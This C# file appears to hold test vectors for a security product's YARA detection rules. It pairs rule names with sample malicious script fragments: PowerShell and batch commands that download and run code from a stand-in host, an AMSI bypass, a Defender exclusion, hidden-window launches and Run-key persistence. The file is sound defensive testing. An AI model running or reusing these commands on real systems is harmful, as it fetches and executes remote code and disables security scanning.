using static SecuEdge.Cage.Tests.Yara.RuleVector;

namespace SecuEdge.Cage.Tests.Yara;

internal static class ScriptVectors
{
    private static readonly string Encoded = Repeat("SQBFAFgA", 10);

    public static IReadOnlyList<RuleVector> All { get; } =
    [
        new("Script_Downloader", "var s = new ActiveXObject('WScript.Shell'); var h = new ActiveXObject('MSXML2.XMLHTTP'); var f = new ActiveXObject('ADODB.Stream');"),
        new("Script_Hidden_Interpreter", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"cmd /c x\", 0, True\r\n"),
        new("Script_Hidden_Interpreter", "CreateObject(\"Shell.Application\").ShellExecute \"powershell\", \"-c x\", \"\", \"open\", 0\r\n"),
        new("Script_Encoded", "#@~^QAAAAA==x^#~@"),
        new("Script_Masked", "var o = new ActiveXObject(" + Repeat("_0x1a2b3c + ", 50) + "'')"),
        new("Script_Masked", "WScript.Echo(1); eval(String.fromCharCode(" + Repeat("104, ", 30) + "104))"),
        new("Script_Masked", "Execute(" + Repeat("Chr(104) & Chr(101) & ", 50) + "\"\") : CreateObject(x)"),
        new("Hta_Application", "<html><head><hta:application id=\"x\"></head><script>new ActiveXObject('WScript.Shell')</script></html>"),
        new("Hta_Application", "<script>new ActiveXObject('WScript.Shell')</script>", "invoice.hta"),
        new("Wsf_Job", "<job id=\"x\"><script language=\"JScript\">new ActiveXObject('x')</script></job>"),
        new("PowerShell_Encoded", "start powershell.exe -NoP -enc " + Encoded),
        new("PowerShell_Encoded", Wide("powershell -EncodedCommand " + Encoded)),
        new("PowerShell_Hidden_Download", "powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://x.example/','x')\""),
        new("PowerShell_Hidden_Download", "Start-Process powershell -WindowStyle Hidden; Invoke-WebRequest http://x.example/ -OutFile x"),
        new("PowerShell_Download_Run", "iex ((New-Object Net.WebClient).DownloadString('http://x.example/'))"),
        new("PowerShell_Loads_Program", "[Reflection.Assembly]::Load([Convert]::FromBase64String($x))"),
        new("PowerShell_Blinds_Scanner", "[Ref].Assembly.GetType($t).GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"),
        new("PowerShell_Blinds_Scanner", "Add-MpPreference -Force -ExclusionPath C:\\"),
        new("Batch_Downloader", "@echo off\r\ncertutil.exe -urlcache -split -f http://x.example/ x\r\n"),
        new("Batch_Downloader", "cd %temp%\r\ncurl -s http://x.example/ -o run.exe\r\n"),
        new("Batch_Masked", "set x=abcdefgh\r\n" + Repeat("%x:~3,1%", 40)),
        new("AutoIt_Program", "MZ" + Repeat("\0", 200) + "AU3!EA06"),
        new("AutoIt_Downloader", "#NoTrayIcon\r\nInetGet(\"http://x.example/\", @TempDir & \"\\x\")\r\nRun(@TempDir & \"\\x\")\r\n"),
        new("Registry_Start", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"x\"\r\n"),
        new("Registry_Start", "\u00ff\u00fe" + Wide("Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce]\r\n")),
    ];
}
